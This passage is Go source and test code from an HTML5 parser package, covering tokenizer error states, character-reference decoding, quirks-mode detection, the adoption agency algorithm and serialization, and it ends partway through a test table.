	// EventForeignElementInHTML records an element that exists only in the
	// SVG or MathML vocabulary appearing while the parser was in the HTML
	// namespace, i.e. a detached fragment of foreign markup (the HF5_1
	// signal). Namespace is the vocabulary the tag belongs to.
	EventForeignElementInHTML
	// EventAutoClosedAtEOF records an element that was still open when the
	// input ended (the DE1/DE2 signal for textarea/select/option).
	// Allowed marks tags the spec permits to remain open without error.
	EventAutoClosedAtEOF
	// EventAdoptionAgency records a run of the adoption agency algorithm
	// for misnested formatting elements.
	EventAdoptionAgency
	// EventIgnoredToken records a token dropped entirely by the tree
	// builder (e.g. stray </div> with nothing to close).
	EventIgnoredToken
)

func (k EventKind) String() string {
	switch k {
	case EventImpliedHead:
		return "implied-head"
	case EventImpliedBody:
		return "implied-body"
	case EventHeadBroken:
		return "head-broken"
	case EventMetadataAfterHead:
		return "metadata-after-head"
	case EventMetaInBody:
		return "meta-in-body"
	case EventBaseInBody:
		return "base-in-body"
	case EventFosterParented:
		return "foster-parented"
	case EventNestedForm:
		return "nested-form"
	case EventSecondBody:
		return "second-body"
	case EventForeignBreakout:
		return "foreign-breakout"
	case EventForeignElementInHTML:
		return "foreign-element-in-html"
	case EventAutoClosedAtEOF:
		return "auto-closed-at-eof"
	case EventAdoptionAgency:
		return "adoption-agency"
	case EventIgnoredToken:
		return "ignored-token"
	}
	return fmt.Sprintf("event(%d)", int(k))
}

// TreeEvent is one corrective action taken during tree construction.
type TreeEvent struct {
	Kind      EventKind
	Detail    string    // tag name or other evidence
	Namespace Namespace // for the foreign-content events
	Allowed   bool      // for EventAutoClosedAtEOF: spec permits it silently
	Pos       Position
	// Attr carries the token's attributes for the metadata events
	// (meta-in-body, base-in-body, metadata-after-head), so rules can
	// inspect http-equiv and friends without re-locating the node.
	Attr []Attribute
}

func (e TreeEvent) String() string {
	if e.Detail != "" {
		return fmt.Sprintf("%s: %s (%s)", e.Pos, e.Kind, e.Detail)
	}
	return fmt.Sprintf("%s: %s", e.Pos, e.Kind)
}
