package htmlparse

import "testing"

func modeOf(t *testing.T, doc string) QuirksMode {
	t.Helper()
	res, err := Parse([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	return res.Mode
}

func TestQuirksClassification(t *testing.T) {
	cases := []struct {
		doc  string
		want QuirksMode
	}{
		{"<!DOCTYPE html><p>x", NoQuirks},
		{"<p>no doctype at all", Quirks},
		{"<!DOCTYPE htm><p>x", Quirks}, // wrong name
		{`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">`, NoQuirks},
		{`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">`, Quirks},
		{`<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML//EN">`, Quirks},
		{`<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">`, Quirks},
		{`<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">`, LimitedQuirks},
		{`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">`, LimitedQuirks},
		{`<!DOCTYPE html SYSTEM "http://www.ibm.com/data/dtd/v11/ibmxhtml1-transitional.dtd">`, Quirks},
		{`<!DOCTYPE html SYSTEM "about:legacy-compat">`, NoQuirks},
	}
	for _, tc := range cases {
		if got := modeOf(t, tc.doc); got != tc.want {
			t.Errorf("%q -> %v, want %v", tc.doc, got, tc.want)
		}
	}
}

// TestQuirksTableInParagraph: the one tree-construction difference the
// rules can observe — in quirks mode <table> does not close an open <p>.
func TestQuirksTableInParagraph(t *testing.T) {
	const body = `<p>text<table><tr><td>c</td></tr></table></p>`

	res, err := Parse([]byte("<!DOCTYPE html>" + body))
	if err != nil {
		t.Fatal(err)
	}
	table := res.Doc.Find(func(n *Node) bool { return n.IsElement("table") })
	if table.Ancestor("p") != nil {
		t.Fatal("standards mode: table must not nest inside p")
	}

	res, err = Parse([]byte(body)) // no doctype: quirks
	if err != nil {
		t.Fatal(err)
	}
	if res.Mode != Quirks {
		t.Fatalf("mode = %v", res.Mode)
	}
	table = res.Doc.Find(func(n *Node) bool { return n.IsElement("table") })
	if table.Ancestor("p") == nil {
		t.Fatal("quirks mode: table must stay inside p")
	}
}

func TestQuirksModeString(t *testing.T) {
	if NoQuirks.String() != "no-quirks" || Quirks.String() != "quirks" || LimitedQuirks.String() != "limited-quirks" {
		t.Fatal("stringer")
	}
}
