package htmlparse

import (
	"strings"
	"testing"
)

func el(tag string) *Node { return &Node{Type: ElementNode, Data: tag, Namespace: NamespaceHTML} }
func txt(s string) *Node  { return &Node{Type: TextNode, Data: s} }

func TestNodeAppendChild(t *testing.T) {
	p := el("div")
	a, b := el("a"), el("b")
	p.AppendChild(a)
	p.AppendChild(b)
	if p.FirstChild != a || p.LastChild != b || a.NextSibling != b || b.PrevSibling != a {
		t.Fatal("links wrong after append")
	}
	if a.Parent != p || b.Parent != p {
		t.Fatal("parents wrong")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("appending an attached node must panic")
		}
	}()
	el("x").AppendChild(a)
}

func TestNodeInsertBefore(t *testing.T) {
	p := el("div")
	a, c := el("a"), el("c")
	p.AppendChild(a)
	p.AppendChild(c)
	b := el("b")
	p.InsertBefore(b, c)
	order := []string{}
	for n := p.FirstChild; n != nil; n = n.NextSibling {
		order = append(order, n.Data)
	}
	if strings.Join(order, "") != "abc" {
		t.Fatalf("order = %v", order)
	}
	// Insert at front.
	z := el("z")
	p.InsertBefore(z, p.FirstChild)
	if p.FirstChild != z || z.NextSibling != a {
		t.Fatal("front insert broken")
	}
	// nil oldChild behaves as append.
	e := el("e")
	p.InsertBefore(e, nil)
	if p.LastChild != e {
		t.Fatal("nil-insert not appended")
	}
}

func TestNodeRemoveChild(t *testing.T) {
	p := el("div")
	a, b, c := el("a"), el("b"), el("c")
	for _, n := range []*Node{a, b, c} {
		p.AppendChild(n)
	}
	p.RemoveChild(b)
	if a.NextSibling != c || c.PrevSibling != a || b.Parent != nil {
		t.Fatal("middle removal broken")
	}
	p.RemoveChild(a)
	if p.FirstChild != c || c.PrevSibling != nil {
		t.Fatal("front removal broken")
	}
	p.RemoveChild(c)
	if p.FirstChild != nil || p.LastChild != nil {
		t.Fatal("last removal broken")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("removing a non-child must panic")
		}
	}()
	p.RemoveChild(a)
}

func TestNodeQueries(t *testing.T) {
	res, err := Parse([]byte(`<body><div id="x"><p>one <b>two</b></p></div><p>three</p>`))
	if err != nil {
		t.Fatal(err)
	}
	div := res.Doc.Find(func(n *Node) bool { return n.IsElement("div") })
	if v, ok := div.LookupAttr("id"); !ok || v != "x" {
		t.Fatalf("LookupAttr = %q %v", v, ok)
	}
	if _, ok := div.LookupAttr("missing"); ok {
		t.Fatal("phantom attribute")
	}
	if got := div.Text(); got != "one two" {
		t.Fatalf("Text = %q", got)
	}
	ps := res.Doc.FindAll(func(n *Node) bool { return n.IsElement("p") })
	if len(ps) != 2 {
		t.Fatalf("FindAll p = %d", len(ps))
	}
	b := res.Doc.Find(func(n *Node) bool { return n.IsElement("b") })
	if b.Ancestor("div") != div {
		t.Fatal("Ancestor div missing")
	}
	if b.Ancestor("table") != nil {
		t.Fatal("phantom ancestor")
	}
	// Walk early exit.
	visits := 0
	res.Doc.Walk(func(n *Node) bool {
		visits++
		return visits < 3
	})
	if visits != 3 {
		t.Fatalf("walk visits = %d", visits)
	}
}

func TestNodeIsElementNamespaced(t *testing.T) {
	res, err := Parse([]byte(`<body><svg><title>x</title></svg><title>y</title>`))
	if err != nil {
		t.Fatal(err)
	}
	titles := res.Doc.FindAll(func(n *Node) bool {
		return n.Type == ElementNode && n.Data == "title"
	})
	if len(titles) != 2 {
		t.Fatalf("titles = %d", len(titles))
	}
	// IsElement is HTML-namespace-only.
	if titles[0].IsElement("title") {
		t.Fatal("svg title claimed to be an HTML title")
	}
	if !titles[1].IsElement("title") {
		t.Fatal("html title not recognized")
	}
}

func TestStringers(t *testing.T) {
	if NamespaceSVG.String() != "svg" || NamespaceMathML.String() != "math" || NamespaceHTML.String() != "html" {
		t.Fatal("namespace strings")
	}
	for tt, want := range map[TokenType]string{
		CharacterToken: "Character", StartTagToken: "StartTag",
		EndTagToken: "EndTag", CommentToken: "Comment",
		DoctypeToken: "Doctype", EOFToken: "EOF",
	} {
		if tt.String() != want {
			t.Fatalf("%v.String() = %q", int(tt), tt.String())
		}
	}
	e := ParseError{Code: ErrDuplicateAttribute, Pos: Position{Line: 3, Col: 7}, Detail: "id"}
	if got := e.Error(); !strings.Contains(got, "3:7") || !strings.Contains(got, "duplicate-attribute") || !strings.Contains(got, "id") {
		t.Fatalf("error string = %q", got)
	}
	ev := TreeEvent{Kind: EventFosterParented, Detail: "strong", Pos: Position{Line: 2, Col: 1}}
	if got := ev.String(); !strings.Contains(got, "foster-parented") || !strings.Contains(got, "strong") {
		t.Fatalf("event string = %q", got)
	}
	// Every event kind has a name.
	for k := EventImpliedHead; k <= EventIgnoredToken; k++ {
		if strings.HasPrefix(k.String(), "event(") {
			t.Fatalf("kind %d unnamed", int(k))
		}
	}
	tok := Token{Type: StartTagToken, Data: "a", Attr: []Attribute{{Name: "href", Value: "/x"}}}
	if got := tok.String(); got != `<a href="/x">` {
		t.Fatalf("token string = %q", got)
	}
}
