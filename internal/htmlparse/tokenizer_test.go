package htmlparse

import (
	"reflect"
	"strings"
	"testing"
)

// tokenize runs the standalone tokenizer (AutoRaw on) to completion.
func tokenize(t *testing.T, input string) ([]Token, []ParseError) {
	t.Helper()
	pre, err := Preprocess([]byte(input))
	if err != nil {
		t.Fatalf("Preprocess: %v", err)
	}
	z := NewTokenizer(pre.Input)
	var out []Token
	for {
		tok := z.Next()
		if tok.Type == EOFToken {
			break
		}
		out = append(out, tok)
	}
	return out, z.Errors()
}

// tokenSummary renders tokens compactly for comparison.
func tokenSummary(tokens []Token) []string {
	var out []string
	for i := range tokens {
		out = append(out, tokens[i].String())
	}
	return out
}

func wantTokens(t *testing.T, input string, want ...string) {
	t.Helper()
	tokens, _ := tokenize(t, input)
	got := tokenSummary(tokens)
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("tokenize(%q):\n got  %q\n want %q", input, got, want)
	}
}

func wantError(t *testing.T, input string, code ErrorCode) {
	t.Helper()
	_, errs := tokenize(t, input)
	for _, e := range errs {
		if e.Code == code {
			return
		}
	}
	t.Fatalf("tokenize(%q): error %s missing; got %v", input, code, errs)
}

func wantNoError(t *testing.T, input string, code ErrorCode) {
	t.Helper()
	_, errs := tokenize(t, input)
	for _, e := range errs {
		if e.Code == code {
			t.Fatalf("tokenize(%q): unexpected error %s", input, code)
		}
	}
}

func TestTokenizeBasicTags(t *testing.T) {
	wantTokens(t, `<p>x</p>`, "<p>", "#text:x", "</p>")
	wantTokens(t, `<BR>`, "<br>")
	wantTokens(t, `<input type="text" value='v' checked>`,
		`<input type="text" value="v" checked="">`)
	wantTokens(t, `<img src=logo.png>`, `<img src="logo.png">`)
	wantTokens(t, `<br/>`, "<br/>")
	wantTokens(t, `<a b=1 c=2>x`, `<a b="1" c="2">`, "#text:x")
}

func TestTokenizeAttributeDetails(t *testing.T) {
	tokens, _ := tokenize(t, `<a x="1&amp;2" y='sq' z=unq w>`)
	if len(tokens) != 1 {
		t.Fatalf("tokens = %v", tokens)
	}
	a := tokens[0].Attr
	if len(a) != 4 {
		t.Fatalf("attrs = %v", a)
	}
	if a[0].Value != "1&2" || a[0].RawValue != "1&amp;2" || a[0].Quote != '"' {
		t.Fatalf("attr x = %+v", a[0])
	}
	if a[1].Quote != '\'' || a[1].Value != "sq" {
		t.Fatalf("attr y = %+v", a[1])
	}
	if a[2].Quote != 0 || a[2].Value != "unq" {
		t.Fatalf("attr z = %+v", a[2])
	}
	if a[3].Value != "" || a[3].Quote != 0 {
		t.Fatalf("attr w = %+v", a[3])
	}
}

func TestTokenizeAttributeCaseAndDuplicates(t *testing.T) {
	tokens, errs := tokenize(t, `<div ID=a id=b Class=c>`)
	a := tokens[0].Attr
	if a[0].Name != "id" || a[1].Name != "id" || a[2].Name != "class" {
		t.Fatalf("attrs = %v", a)
	}
	if !a[1].Duplicate || a[0].Duplicate {
		t.Fatalf("duplicate flags wrong: %v", a)
	}
	found := false
	for _, e := range errs {
		if e.Code == ErrDuplicateAttribute && e.Detail == "id" {
			found = true
		}
	}
	if !found {
		t.Fatalf("duplicate-attribute error missing: %v", errs)
	}
	if v, ok := tokens[0].LookupAttr("id"); !ok || v != "a" {
		t.Fatalf("LookupAttr returned %q (first attribute must win)", v)
	}
}

func TestTokenizeErrorStates(t *testing.T) {
	wantError(t, `<img/src=x>`, ErrUnexpectedSolidusInTag)
	wantError(t, `<img src="a"b="c">`, ErrMissingWhitespaceBetweenAttributes)
	wantError(t, `<div a=1 a=2>`, ErrDuplicateAttribute)
	wantError(t, `<div a"b=c>`, ErrUnexpectedCharacterInAttributeName)
	wantError(t, `<div =x>`, ErrUnexpectedEqualsSignBeforeAttrName)
	wantError(t, `<div a=b"c>`, ErrUnexpectedCharInUnquotedAttrValue)
	wantError(t, `<div a=>`, ErrMissingAttributeValue)
	wantError(t, `<div `, ErrEOFInTag)
	wantError(t, `<`, ErrEOFBeforeTagName)
	wantError(t, `</>`, ErrMissingEndTagName)
	wantError(t, `<3>`, ErrInvalidFirstCharacterOfTagName)
	wantError(t, `<?xml?>`, ErrUnexpectedQuestionMarkInsteadOfTag)
	wantError(t, `</div x=1>`, ErrEndTagWithAttributes)
	wantError(t, `</div/>`, ErrEndTagWithTrailingSolidus)

	// The negative space: well-formed markup raises none of the above.
	for _, code := range []ErrorCode{
		ErrUnexpectedSolidusInTag, ErrMissingWhitespaceBetweenAttributes,
		ErrDuplicateAttribute, ErrUnexpectedCharacterInAttributeName,
	} {
		wantNoError(t, `<a href="x" title='y' data-z=1>text</a> <br/>`, code)
	}
}

func TestTokenizeSelfClosingVsSolidus(t *testing.T) {
	// A trailing /> is self-closing syntax, not FB1.
	wantNoError(t, `<br/>`, ErrUnexpectedSolidusInTag)
	wantNoError(t, `<img src="a"/>`, ErrUnexpectedSolidusInTag)
	// But a slash in the middle is.
	wantError(t, `<img src="a"/alt="b">`, ErrUnexpectedSolidusInTag)
}

func TestTokenizeCharacterReferences(t *testing.T) {
	wantTokens(t, "a&amp;b", "#text:a&b")
	wantTokens(t, "&lt;tag&gt;", "#text:<tag>")
	wantTokens(t, "&#65;&#x42;", "#text:AB")
	wantTokens(t, "&notit;", "#text:¬it;") // legacy prefix match
	wantTokens(t, "&nosuch;x", "#text:&nosuch;x")
	wantTokens(t, "&", "#text:&")
	wantTokens(t, "&;", "#text:&;")
	wantTokens(t, "100 &euro", "#text:100 &euro") // euro is not a legacy entity
	wantTokens(t, "&copy 2022", "#text:© 2022")   // copy is

	wantError(t, "&#;", ErrAbsenceOfDigitsInNumericCharRef)
	wantError(t, "&#0;", ErrNullCharacterReference)
	wantError(t, "&#x110000;", ErrCharRefOutsideUnicodeRange)
	wantError(t, "&#xD800;", ErrSurrogateCharacterReference)
	wantError(t, "&#xFDD0;", ErrNoncharacterCharacterReference)
	wantError(t, "&#65", ErrMissingSemicolonAfterCharRef)
	wantError(t, "&amp", ErrMissingSemicolonAfterCharRef)
	wantError(t, "&unknown;", ErrUnknownNamedCharacterReference)

	// Control reference remapping (windows-1252 repertoire).
	wantTokens(t, "&#x80;", "#text:€")
	wantTokens(t, "&#x92;", "#text:’")
}

func TestTokenizeAttributeCharRefQuirk(t *testing.T) {
	// In attributes, a legacy (no-semicolon) reference followed by '=' or
	// an alphanumeric is NOT decoded — the historical compatibility rule.
	tokens, _ := tokenize(t, `<a href="?a=b&not=1&notx&not.">`)
	v, _ := tokens[0].LookupAttr("href")
	if v != "?a=b&not=1&notx¬." {
		t.Fatalf("href = %q", v)
	}
	// With a semicolon it always decodes.
	tokens, _ = tokenize(t, `<a href="?a&not;b">`)
	v, _ = tokens[0].LookupAttr("href")
	if v != "?a¬b" {
		t.Fatalf("href = %q", v)
	}
}

func TestTokenizeComments(t *testing.T) {
	wantTokens(t, "<!--hi-->", "<!--hi-->")
	wantTokens(t, "<!---->", "<!---->")
	wantTokens(t, "<!--a-b--c-->", "<!--a-b--c-->")
	wantTokens(t, "<!--x--!>", "<!--x-->")
	wantError(t, "<!--x--!>", ErrIncorrectlyClosedComment)
	wantError(t, "<!-->", ErrAbruptClosingOfEmptyComment)
	wantError(t, "<!--", ErrEOFInComment)
	wantError(t, "<!x>", ErrIncorrectlyOpenedComment)
	wantError(t, "<!--a<!--b-->", ErrNestedComment)
	// The mXSS-relevant case: <!-- inside a comment's text is preserved.
	wantTokens(t, "<!--<!-- nested -->", "<!--<!-- nested -->")
}

func TestTokenizeDoctype(t *testing.T) {
	tokens, _ := tokenize(t, "<!DOCTYPE html>")
	if tokens[0].Type != DoctypeToken || tokens[0].Data != "html" || tokens[0].ForceQuirks {
		t.Fatalf("doctype = %+v", tokens[0])
	}
	tokens, _ = tokenize(t, `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">`)
	d := tokens[0]
	if d.PublicID != "-//W3C//DTD HTML 4.01//EN" || d.SystemID != "http://www.w3.org/TR/html4/strict.dtd" {
		t.Fatalf("doctype ids = %+v", d)
	}
	wantError(t, "<!DOCTYPE>", ErrMissingDoctypeName)
	wantError(t, "<!DOCTYPE html PUBLIC>", ErrMissingDoctypePublicIdentifier)
	wantError(t, "<!DOCTYPE html SYSTEM>", ErrMissingDoctypeSystemIdentifier)
	wantError(t, "<!DOCTYPE html BOGUS>", ErrInvalidCharacterSequenceAfterDT)
	wantError(t, "<!DOCTYPE", ErrEOFInDoctype)
	wantError(t, "<!DOCTYPEhtml>", ErrMissingWhitespaceBeforeDoctypeName)
}

func TestTokenizeRawText(t *testing.T) {
	wantTokens(t, "<style>a<b</style>", "<style>", "#text:a<b", "</style>")
	wantTokens(t, "<textarea></div></textarea>", "<textarea>", "#text:</div>", "</textarea>")
	wantTokens(t, "<title>&amp;</title>", "<title>", "#text:&", "</title>")
	// RAWTEXT does not decode character references.
	wantTokens(t, "<style>&amp;</style>", "<style>", "#text:&amp;", "</style>")
	// Case-insensitive appropriate end tag.
	wantTokens(t, "<STYLE>x</StYlE>", "<style>", "#text:x", "</style>")
	// A non-matching end tag is text.
	wantTokens(t, "<style>a</styl></style>", "<style>", "#text:a</styl>", "</style>")
}

func TestTokenizeScriptEscapes(t *testing.T) {
	// </script> inside a double-escaped (<!--<script>) block does not end
	// the element.
	wantTokens(t, `<script><!--<script></script>--></script>`,
		"<script>", "#text:<!--<script></script>-->", "</script>")
	// Single-escaped: </script> ends it.
	wantTokens(t, `<script><!--x--></script>`,
		"<script>", "#text:<!--x-->", "</script>")
	wantError(t, "<script><!--", ErrEOFInScriptHTMLCommentLikeText)
}

func TestTokenizePlaintext(t *testing.T) {
	wantTokens(t, "<plaintext></plaintext><div>",
		"<plaintext>", "#text:</plaintext><div>")
}

func TestTokenizeCDATAOutsideForeign(t *testing.T) {
	// In HTML content CDATA is a bogus comment with a specific error.
	wantError(t, "<![CDATA[x]]>", ErrCDATAInHTMLContent)
	tokens, _ := tokenize(t, "<![CDATA[x]]>")
	if tokens[0].Type != CommentToken || !strings.HasPrefix(tokens[0].Data, "[CDATA[") {
		t.Fatalf("tokens = %v", tokens)
	}
}

func TestTokenizePositions(t *testing.T) {
	tokens, _ := tokenize(t, "line1\n<div>\n  <span a=1>")
	if tokens[0].Type != CharacterToken || tokens[0].Pos.Line != 1 || tokens[0].Pos.Col != 1 {
		t.Fatalf("text pos = %+v", tokens[0].Pos)
	}
	div := tokens[1]
	if div.Pos.Line != 2 {
		t.Fatalf("div pos = %+v", div.Pos)
	}
	span := tokens[3]
	if span.Pos.Line != 3 {
		t.Fatalf("span pos = %+v", span.Pos)
	}
	if span.Attr[0].Pos.Line != 3 || span.Attr[0].Pos.Col < 9 {
		t.Fatalf("attr pos = %+v", span.Attr[0].Pos)
	}
}

func TestTokenizeNullHandling(t *testing.T) {
	wantError(t, "a\x00b", ErrUnexpectedNullCharacter)
	// In data state the NUL is passed through (the tree stage drops it);
	// in RCDATA it becomes U+FFFD.
	tokens, _ := tokenize(t, "<textarea>a\x00b</textarea>")
	if tokens[1].Data != "a�b" {
		t.Fatalf("rcdata NUL = %q", tokens[1].Data)
	}
}

func TestTokenizeEOFRepeats(t *testing.T) {
	pre, _ := Preprocess([]byte("x"))
	z := NewTokenizer(pre.Input)
	for i := 0; i < 3; i++ {
		tok := z.Next()
		if i > 0 && tok.Type != EOFToken {
			t.Fatalf("call %d: %v", i, tok)
		}
	}
}

func TestPreprocess(t *testing.T) {
	p, err := Preprocess([]byte("a\r\nb\rc\nd"))
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Input) != "a\nb\nc\nd" {
		t.Fatalf("normalized = %q", p.Input)
	}
	if _, err := Preprocess([]byte{0xff, 0xfe, 'a'}); err != ErrNotUTF8 {
		t.Fatalf("invalid UTF-8: err = %v", err)
	}
	p, _ = Preprocess([]byte("a\x01b"))
	if len(p.Errors) != 1 || p.Errors[0].Code != ErrControlCharacterInInputStream {
		t.Fatalf("control char errors = %v", p.Errors)
	}
	p, _ = Preprocess([]byte("a﷐b"))
	if len(p.Errors) != 1 || p.Errors[0].Code != ErrNoncharacterInInputStream {
		t.Fatalf("noncharacter errors = %v", p.Errors)
	}
	// NUL passes preprocessing (handled per tokenizer state).
	p, _ = Preprocess([]byte("a\x00b"))
	if len(p.Errors) != 0 {
		t.Fatalf("NUL flagged at preprocess: %v", p.Errors)
	}
}
