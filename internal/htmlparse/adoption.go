package htmlparse

// adoptionAgency implements the adoption agency algorithm (spec
// 13.2.6.4.7, "the AAA"), the most intricate of the parser's repair
// strategies: it untangles misnested formatting elements such as
// <b><p>x</b>y</p> by cloning and re-parenting.
func (tb *treeBuilder) adoptionAgency(t *Token) {
	subject := t.Data
	// Step 2: trivial case.
	if cur := tb.currentNode(); cur != nil && cur.IsElement(subject) {
		inAFE := false
		for i := range tb.afe {
			if tb.afe[i].node == cur {
				inAFE = true
				break
			}
		}
		if !inAFE {
			tb.pop()
			return
		}
	}
	for outer := 0; outer < 8; outer++ {
		// Step 4.3: locate the formatting element.
		feIdx := tb.afeIndexAfterLastMarker(subject)
		if feIdx < 0 {
			tb.anyOtherEndTag(t)
			return
		}
		fe := tb.afe[feIdx].node
		stackIdx := tb.indexOnStack(fe)
		if stackIdx < 0 {
			tb.parseError(ErrAdoptionAgencyMisnesting, subject, t.Pos)
			tb.removeFromAFE(fe)
			return
		}
		if !tb.nodeInScope(fe) {
			tb.parseError(ErrAdoptionAgencyMisnesting, subject, t.Pos)
			return
		}
		if fe != tb.currentNode() {
			tb.parseError(ErrAdoptionAgencyMisnesting, subject, t.Pos)
		}
		// Step 4.8: furthest block.
		var fb *Node
		fbIdx := -1
		for i := stackIdx + 1; i < len(tb.stack); i++ {
			n := tb.stack[i]
			if n.Namespace == NamespaceHTML && specialElements[n.Data] {
				fb = n
				fbIdx = i
				break
			}
		}
		if fb == nil {
			for len(tb.stack) > stackIdx {
				tb.pop()
			}
			tb.removeFromAFE(fe)
			return
		}
		// Only a genuine misnesting (a furthest block exists) reaches the
		// re-parenting machinery worth reporting.
		tb.event(EventAdoptionAgency, subject, NamespaceHTML, t.Pos)
		commonAncestor := tb.stack[stackIdx-1]
		bookmark := feIdx
		node, nodeIdx := fb, fbIdx
		lastNode := fb
		for inner := 1; ; inner++ {
			nodeIdx--
			node = tb.stack[nodeIdx]
			if node == fe {
				break
			}
			nodeAFE := -1
			for i := range tb.afe {
				if tb.afe[i].node == node {
					nodeAFE = i
					break
				}
			}
			if inner > 3 && nodeAFE >= 0 {
				tb.afe = append(tb.afe[:nodeAFE], tb.afe[nodeAFE+1:]...)
				if nodeAFE < bookmark {
					bookmark--
				}
				nodeAFE = -1
			}
			if nodeAFE < 0 {
				tb.stack = append(tb.stack[:nodeIdx], tb.stack[nodeIdx+1:]...)
				continue
			}
			clone := tb.cloneNode(node)
			tb.afe[nodeAFE].node = clone
			tb.stack[nodeIdx] = clone
			node = clone
			if lastNode == fb {
				bookmark = nodeAFE + 1
			}
			if lastNode.Parent != nil {
				lastNode.Parent.RemoveChild(lastNode)
			}
			node.AppendChild(lastNode)
			lastNode = node
		}
		if lastNode.Parent != nil {
			lastNode.Parent.RemoveChild(lastNode)
		}
		tb.insertWithTarget(commonAncestor, lastNode)
		// Step 4.15-4.19: re-home the furthest block's children.
		clone := tb.cloneNode(fe)
		for c := fb.FirstChild; c != nil; c = fb.FirstChild {
			fb.RemoveChild(c)
			clone.AppendChild(c)
		}
		fb.AppendChild(clone)
		tb.removeFromAFE(fe)
		if bookmark > len(tb.afe) {
			bookmark = len(tb.afe)
		}
		tb.afe = append(tb.afe[:bookmark], append([]afeEntry{{node: clone, token: t2(clone)}}, tb.afe[bookmark:]...)...)
		tb.removeFromStack(fe)
		if idx := tb.indexOnStack(fb); idx >= 0 {
			tb.stack = append(tb.stack[:idx+1], append([]*Node{clone}, tb.stack[idx+1:]...)...)
		}
	}
}

// t2 rebuilds a start-tag token from a node, for AFE bookkeeping of clones.
func t2(n *Node) Token {
	return Token{Type: StartTagToken, Data: n.Data, Attr: n.Attr, Pos: n.Pos}
}

// nodeInScope reports whether the specific node is in the default scope.
func (tb *treeBuilder) nodeInScope(target *Node) bool {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		n := tb.stack[i]
		if n == target {
			return true
		}
		if n.Namespace == NamespaceHTML {
			if defaultScopeStop[n.Data] {
				return false
			}
		} else if isMathMLTextIntegrationPoint(n) || isHTMLIntegrationPoint(n) {
			return false
		}
	}
	return false
}

// insertWithTarget inserts n with the given override target, applying
// foster parenting when the target is table-ish.
func (tb *treeBuilder) insertWithTarget(target, n *Node) {
	switch target.Data {
	case "table", "tbody", "tfoot", "thead", "tr":
		if target.Namespace == NamespaceHTML {
			for i := len(tb.stack) - 1; i >= 0; i-- {
				if tb.stack[i].IsElement("table") {
					table := tb.stack[i]
					if table.Parent != nil {
						table.Parent.InsertBefore(n, table)
						n.FosterParented = true
						return
					}
					tb.stack[i-1].AppendChild(n)
					return
				}
			}
		}
	}
	target.AppendChild(n)
}
