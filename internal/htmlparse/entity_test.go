package htmlparse

import "testing"

// TestLegacyEntitiesSubsetOfNamed: every legacy (no-semicolon) name must
// also resolve with a semicolon, to the same replacement.
func TestLegacyEntitiesSubsetOfNamed(t *testing.T) {
	for name, rep := range legacyEntities {
		got, ok := namedEntities[name]
		if !ok {
			t.Errorf("legacy entity %q missing from named table", name)
			continue
		}
		if got != rep {
			t.Errorf("entity %q: legacy %q vs named %q", name, rep, got)
		}
	}
}

// TestEntityNameLengthBound: the matcher's lookahead bound must cover
// every table entry.
func TestEntityNameLengthBound(t *testing.T) {
	for name := range namedEntities {
		if len(name) > maxEntityNameLen {
			t.Errorf("entity %q longer than maxEntityNameLen", name)
		}
	}
}

// TestNumericReplacements: the windows-1252 remapping of the spec.
func TestNumericReplacements(t *testing.T) {
	cases := map[string]string{
		"&#128;":  "€",
		"&#x80;":  "€",
		"&#x99;":  "™",
		"&#x9f;":  "Ÿ",
		"&#x81;":  "", // unmapped control stays (with an error)
		"&#8364;": "€",
	}
	for in, want := range cases {
		tokens, _ := tokenize(t, in)
		if len(tokens) != 1 || tokens[0].Data != want {
			t.Errorf("%s -> %v, want %q", in, tokens, want)
		}
	}
}

// TestEntityLongestMatch: the matcher must take the longest name, with the
// semicolon form preferred.
func TestEntityLongestMatch(t *testing.T) {
	cases := map[string]string{
		"&not;in": "¬in",
		"&notin;": "∉",
		"&ampx":   "&x", // legacy &amp then 'x'... decoded since text context
		"&amp;x":  "&x",
		"&sub;":   "⊂",
		"&sube;":  "⊆",
		"&sup;x":  "⊃x",
		"&sup2;":  "²",
		// "sup2" is itself a legacy (no-semicolon) name, so the longest
		// match decodes it and the rest stays literal.
		"&sup20;": "²0;",
	}
	for in, want := range cases {
		tokens, _ := tokenize(t, in)
		if len(tokens) != 1 || tokens[0].Data != want {
			t.Errorf("%q -> %v, want %q", in, tokens, want)
		}
	}
}
