package htmlparse

import (
	"strings"
	"testing"
)

func renderOf(t *testing.T, input string) string {
	t.Helper()
	res, err := Parse([]byte(input))
	if err != nil {
		t.Fatalf("Parse(%q): %v", input, err)
	}
	return RenderString(res.Doc)
}

func TestSerializeBasics(t *testing.T) {
	cases := []struct{ in, want string }{
		{
			`<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`,
			`<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`,
		},
		{ // void elements get no end tag
			`<body><br><img src="i.png"><hr>`,
			`<html><head></head><body><br><img src="i.png"><hr></body></html>`,
		},
		{ // attribute values double-quoted and escaped
			`<body><div title='say "hi" &amp; bye'>x</div>`,
			`<html><head></head><body><div title="say &quot;hi&quot; &amp; bye">x</div></body></html>`,
		},
		{ // text escaped
			`<body>a &lt; b &amp; c`,
			`<html><head></head><body>a &lt; b &amp; c</body></html>`,
		},
		{ // raw text untouched
			`<body><script>if (a<b) alert("x")</script>`,
			`<html><head></head><body><script>if (a<b) alert("x")</script></body></html>`,
		},
		{ // comments
			`<body><!-- note -->`,
			`<html><head></head><body><!-- note --></body></html>`,
		},
		{ // duplicate attributes are dropped (the DM3 repair)
			`<body><div id="a" id="b">x</div>`,
			`<html><head></head><body><div id="a">x</div></body></html>`,
		},
		{ // FB1/FB2 syntax normalized (the FB repair)
